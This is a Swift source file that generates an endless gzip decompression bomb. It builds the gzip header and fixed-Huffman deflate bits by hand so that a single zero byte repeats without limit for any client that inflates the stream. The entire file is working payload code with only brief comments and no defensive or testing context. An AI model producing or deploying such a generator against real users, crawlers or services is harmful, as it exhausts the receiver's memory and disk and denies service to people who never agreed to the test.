/// A gzip stream without an end: one zero byte, then "the byte before, 258 times" for ever (RFC 1951, RFC 1952).
enum GzipBomb {
    /// The stream's beginning.
    static var start: [UInt8] {
        // A block of fixed codes, the byte 0, and so many matches that whole bytes are left: 3 + 8 + 13 × 1 = 24 bits.
        var bits = Bits()
        bits.append([0, 1, 0])
        bits.append([0, 0, 1, 1, 0, 0, 0, 0])
        bits.append(match)
        return [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255] + bits.bytes
    }

    /// What may follow any number of times.
    static var more: [UInt8] {
        var bits = Bits()
        for _ in 0..<8 * 128 { bits.append(match) }
        return bits.bytes
    }

    /// Length 258 (code 285) at distance 1 (code 0).
    private static let match: [UInt8] = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0]

    /// Bits as deflate packs them, the lowest of each byte first.
    private struct Bits {
        var bytes: [UInt8] = []
        private var count = 0

        mutating func append(_ bits: [UInt8]) {
            for bit in bits {
                if count % 8 == 0 { bytes.append(0) }
                bytes[count / 8] |= bit << UInt8(count % 8)
                count += 1
            }
        }
    }
}
